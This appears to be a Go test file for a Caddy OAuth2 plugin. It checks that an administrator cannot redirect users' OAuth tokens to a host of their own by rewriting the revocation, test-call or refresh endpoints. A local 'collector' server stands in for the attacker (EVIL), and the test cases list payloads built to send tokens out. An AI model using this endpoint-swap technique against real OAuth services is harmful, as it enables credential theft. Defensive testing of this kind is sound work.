package caddyoauth_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
)

// collector is a place of an attacker's that keeps what it is sent.
type collector struct {
	*httptest.Server
	got memory
}

func newCollector(t *testing.T) *collector {
	t.Helper()
	c := new(collector)
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		text, _ := url.QueryUnescape(string(body))
		_, _ = io.WriteString(&c.got, r.URL.Path+" "+r.Header.Get("Authorization")+" "+text+"\n")
		_, _ = io.WriteString(w, `{"id":"1"}`)
	}))
	t.Cleanup(c.Close)
	return c
}

// peopleAPI is a site where alice has connected her account with a connection that was made at run time. It returns the connection's path.
func peopleAPI(t *testing.T, more string) (a *restSite, alice *browser, one string) {
	t.Helper()
	a = runAPI(t, "", "route /connect* {\n"+connectAt+"}\nroute /files {\n"+basicAuth+"oauth2_inject drive {\n reverse_proxy UPSTREAM\n}\n}\n")
	made := a.call("POST", "/v1/secrets/oauth2", a.people("drive", `,"subject":"{http.auth.user.id}"`+more)).is(http.StatusCreated)
	alice = a.as("alice")
	alice.connectAs(t, a)
	alice.open("/files").want(t, http.StatusOK, "GET /files")
	return a, alice, "/v1/secrets/" + made.get("id")
}

// TestMovedConnectionLeavesTokensBehind is an administrator of the API, who may see no token, that has people's tokens sent to a place
// of their own. Bringing a secret along proves nothing where it is not the one that was there, or was put there just before.
func TestMovedConnectionLeavesTokensBehind(t *testing.T) {
	for name, steps := range map[string][]string{
		"where consents end":                {`{"client_secret":"mine","revocation_endpoint":"EVIL/revoke"}`},
		"where consents end, in two steps":  {`{"client_secret":"mine"}`, `{"client_secret":"mine","revocation_endpoint":"EVIL/revoke"}`},
		"where the account is looked up":    {`{"client_secret":"mine","test_call":{"url":"EVIL/me","id":["id"]}}`},
		"looked up, in two steps":           {`{"client_secret":"mine"}`, `{"client_secret":"mine","test_call":{"url":"EVIL/me","id":["id"]}}`},
		"where tokens are refreshed":        {`{"client_secret":"mine"}`, `{"client_secret":"mine","quirks":{"refresh_endpoint":"EVIL/refresh"}}`},
		"another secret instead of the own": {`{"client_secret":null,"client_auth":"none","token_params":{"x":"y"},"revocation_endpoint":"EVIL/revoke"}`},
		"another secret, in two steps": {
			`{"client_secret":null,"client_auth":"none","token_params":{"x":"y"}}`, `{"token_params":{"x":"y"},"test_call":{"url":"EVIL/me","id":["id"]}}`},
		"back and forth": {`{"client_secret":"mine"}`, `{"client_secret":"mine","revocation_endpoint":"EVIL/revoke"}`, `{"client_secret":"` + clientSecret + `"}`},
	} {
		t.Run(name, func(t *testing.T) {
			evil := newCollector(t)
			a, alice, one := peopleAPI(t, "")
			for _, step := range steps {
				a.call("PATCH", one, strings.ReplaceAll(step, "EVIL", evil.URL), "If-Match: *").is(http.StatusOK)
			}
			for _, try := range []string{"/subjects/alice/refresh", "/subjects/alice/test"} {
				a.call("POST", one+try, "")
			}
			alice.open("/files").want(t, http.StatusForbidden, "authorization-required")
			a.call("POST", one+"/subjects/alice/revoke", "")
			a.call("DELETE", one, "", "If-Match: *").is(http.StatusOK)
			if got := evil.got.String(); strings.Contains(got, seed) {
				t.Errorf("the new place got\n%s", strings.ReplaceAll(got, seed, "<SECRET>"))
			}
		})
	}
}

// TestMovedByItsOwner: who brings the very secret along moves a connection, and nobody has to connect anew. A secret that is replaced,
// and nothing else, costs nothing either.
func TestMovedByItsOwner(t *testing.T) {
	place := newCollector(t)
	a, alice, one := peopleAPI(t, "")
	a.call("PATCH", one, `{"description":"x","scopes":[]}`, "If-Match: *").is(http.StatusOK)
	a.call("PATCH", one, `{"client_secret":"`+clientSecret+`","test_call":{"url":"`+place.URL+`/me","id":["id"]}}`, "If-Match: *").is(http.StatusOK)
	alice.open("/files").want(t, http.StatusOK, "GET /files")
	a.call("POST", one+"/subjects/alice/test", "").is(http.StatusOK)
	if !strings.Contains(place.got.String(), "/me Bearer "+seed) {
		t.Error("the new place was not asked")
	}
	a.call("PATCH", one, `{"client_secret":"another"}`, "If-Match: *").is(http.StatusOK)
	alice.open("/files").want(t, http.StatusOK, "GET /files")
	a.call("PATCH", one, `{"client_secret":"`+clientSecret+`"}`, "If-Match: *").is(http.StatusOK)
	a.call("PATCH", one, `{"client_secret":"`+clientSecret+`","test_call":{"url":"`+place.URL+`/you","id":["id"]}}`, "If-Match: *").is(http.StatusOK)
	alice.open("/files").want(t, http.StatusForbidden, "authorization-required") // it cannot be told any more whose it is
	alice.connectAs(t, a)
	alice.open("/files").want(t, http.StatusOK, "GET /files")
	a.call("PATCH", one, `{"client_secret":"`+clientSecret+`","test_call":{"url":"`+place.URL+`/her","id":["id"]}}`, "If-Match: *").is(http.StatusOK)
	alice.open("/files").want(t, http.StatusOK, "GET /files") // what was connected since is as good as the secret
}
